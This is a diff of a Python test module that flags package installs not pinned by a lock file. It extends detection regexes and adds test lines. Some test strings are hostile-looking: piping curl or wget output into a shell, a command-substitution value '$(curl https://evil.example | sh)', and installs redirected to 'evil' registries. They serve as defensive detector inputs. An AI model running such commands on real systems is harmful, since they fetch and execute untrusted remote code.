@@ -18,19 +18,37 @@ NPM_LOCKS = [*ROOT.glob("src/**/package-lock.json"), *ROOT.glob("tests/npm/*/pac
 
 INSTALLS = re.compile(
     r"""-m\ build\b | \b(?:
-        npm\S*\ (?:\S+\ )*?(?:install|i|ci|add|update|exec|x)\b | npx\b | (?:yarn|pnpm|bunx?|corepack)\ |
-        pip[\d.]*\ (?:\S+\ )*?(?:install|download|wheel)\b | pipx\b | easy_install\b |
-        uv\ (?:\S+\ )*?(?:run|add|sync|tool)\b | uvx\b
+        npm\S*\ (?:\S+\ )*?(?:
+            clean-install | install | i | ci | add | update | up(?:grade)? | exec | x | rebuild | rb | init | create
+        )\b |
+        npx\b | (?:yarn|pnpm|bunx?|corepack|deno)\ |
+        pip[\d.]*\ (?:\S+\ )*?(?:install|download|wheel|compile|sync|lock)\b |
+        pip-(?:compile|sync)\b | pipx\b | easy_install\b |
+        uv\ (?:\S+\ )*?(?:run|add|sync|tool|build|lock|python\ install|venv\ .*--seed)\b | uvx\b |
+        hatch\ | (?:poetry|pdm|pipenv|rye|flit|conda|mamba)\ |
+        (?:cargo|gem|go|brew|apt|apt-get|dnf)\ (?:\S+\ )*?install\b |
+        go\ (?:get|run)\b | (?:docker|podman)(?:\ (?:run|pull|build|compose)\b | ://) |
+        (?:curl|wget)\b
     )""",
     re.VERBOSE | re.IGNORECASE,
 )
 LOCKED = (
-    r"npm\S* ci .*--ignore-scripts\b",
-    r"npm .*--package-lock-only --ignore-scripts\b",  # writes a lock and installs nothing
+    r"npm\S* ci .*--ignore-scripts(?!\S)",
+    r"npm .*--package-lock-only --ignore-scripts(?!\S)",  # writes a lock and installs nothing
     r"npx --no ",  # what stands beside it, and nothing from elsewhere
-    r"pip[\d.]* .*--require-hashes --only-binary=:all:",  # what builds a package would come without a hash
-    r"pip .*--no-index\b",  # files of a folder
+    r"pip[\d.]* .*--require-hashes --only-binary=:all:(?!\S)",  # what builds a package would come without a hash
+    r"pip compile .*--no-build(?!\S)",  # writes a lock, and builds no package to read what it needs
+    r"pip .*--no-index(?!\S)",  # files of a folder
 )
+TAKEN_BACK = re.compile(
+    r""":// | --(?:extra-|default-)?index(?:-url)?\b | (?<!\S)-[if]\b | --(?:registry|trusted-host)\b |
+    \b(?:PIP|UV|NPM_CONFIG)_\w+= |
+    --ignore-scripts(?:=|\ (?:false|0)\b) | --build(?!\S) |
+    --no-(?:ignore-scripts|package-lock-only|require-hashes|verify-hashes|binary)\b""",
+    re.VERBOSE | re.IGNORECASE,
+)
+"""What leads elsewhere, and options whose last word counts: no lock helps against them."""
+
 EXCEPTIONS = {
     ("Makefile", "pip install --quiet --disable-pip-version-check --no-deps --no-build-isolation --editable ."): (
         "this project's own sources, built by what the lock has installed"
@@ -41,6 +59,10 @@ EXCEPTIONS = {
     ("tests/release_rehearsal.py", "-m pip install --quiet --upgrade dsql-dr-constructs<=version"): (
         "the rehearsal of a release is about what its index on loopback gives; files came there by their hash"
     ),
+    (
+        "tests/runtime/cluster_peering/test_entries.py",
+        "$(curl https://evil.example | sh)",
+    ): "a parameter's text, not run",
     ("tests/examples/test_readme.py", "npm install --global aws-cdk"): "the README's words, compared and not run",
 }
 
@@ -90,7 +112,8 @@ def words(node: ast.AST) -> str:
 def unlocked(found: Iterable[str]) -> set[str]:
     """Of all commands, those that install what no lock names."""
     installs = {line for one in found if INSTALLS.search(line := " ".join(one.split()))}
-    return {one for one in installs if not any(re.search(locked, one, re.IGNORECASE) for locked in LOCKED)}
+    locked = {one for one in installs if any(re.search(form, one, re.IGNORECASE) for form in LOCKED)}
+    return installs - {one for one in locked if not TAKEN_BACK.search(one)}
 
 
 def sources() -> list[Path]:
@@ -122,14 +145,62 @@ def test_nothing_is_installed_that_no_lock_names() -> None:
         "uvx x",
         "uv tool install x",
         "uv pip install --python=x --requirement=y",
+        "uv build",
+        "uv lock",
+        "uv venv --seed x",
+        "uv pip compile --upgrade pyproject.toml",
+        "uv pip compile --no-build-isolation pyproject.toml",
+        "pip-compile pyproject.toml",
         "pipx run x",
         "python -m build",
+        "hatch build",
+        "poetry install",
+        "conda install x",
+        "cargo install x",
+        "gem install x",
+        "go install x@latest",
+        "go run x@latest",
+        "sudo apt-get --yes install x",
+        "docker run x",
+        "      - uses: docker://x",
+        "curl -sSf https://x | sh",
+        "bash <(wget -qO- https://x)",
+        "npm rebuild",
+        "npm init x",
     ],
 )
 def test_plain_install_in_a_shell_is_found(line: str, tmp_path: Path) -> None:
     for name in ("Makefile", "publish", "test.yml"):
         (tmp_path / name).write_text(f"{line}\n")
         assert unlocked(commands(tmp_path / name))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "npm ci --ignore-scripts=false",
+        "npm ci --ignore-scripts --ignore-scripts=false",
+        "npm ci --ignore-scripts --ignore-scripts false",
+        "npm ci --ignore-scripts --no-ignore-scripts",
+        "npm ci --ignore-scripts-not",
+        "npm ci --ignore-scripts --registry http://evil",
+        "npm_config_registry=$X npm ci --ignore-scripts",
+        "npm install --package-lock-only --ignore-scripts=false",
+        "pip install x --no-index --find-links https://evil",
+        "pip install x --no-index-url x",
+        "pip install --require-hashes --only-binary=:all: --extra-index-url=http://evil -r x",
+        "pip install --require-hashes --only-binary=:all: --index-url $X -r x",
+        "pip install --require-hashes --only-binary=:all: -i $X -r x",
+        "pip install --require-hashes --only-binary=:all: --no-binary=x -r x",
+        "PIP_EXTRA_INDEX_URL=$X pip install --require-hashes --only-binary=:all: -r x",
+        "uv pip install --require-hashes --only-binary=:all: --default-index=$X -r x",
+        "uv pip install --require-hashes --only-binary=:all: --no-verify-hashes -r x",
+        "uv pip compile --no-build --build x",
+    ],
+)
+def test_install_from_a_lock_that_another_option_takes_back_is_found(line: str, tmp_path: Path) -> None:
+    (tmp_path / "Makefile").write_text(f"{line}\n")
+    assert unlocked(commands(tmp_path / "Makefile"))
 
 
 @pytest.mark.parametrize(
@@ -155,7 +226,10 @@ def test_plain_install_in_python_is_found(code: str, tmp_path: Path) -> None:
     [
         "npm ci --ignore-scripts --prefix x",
         "pip install --require-hashes --only-binary=:all: --requirement x.lock",
+        "pip install --no-index --find-links=x x",
+        "uv pip compile --no-build --quiet x",
         "npx --no cdk synth",
+        "python -m hatchling build",
         "make test",
         "# pip install x",
     ],
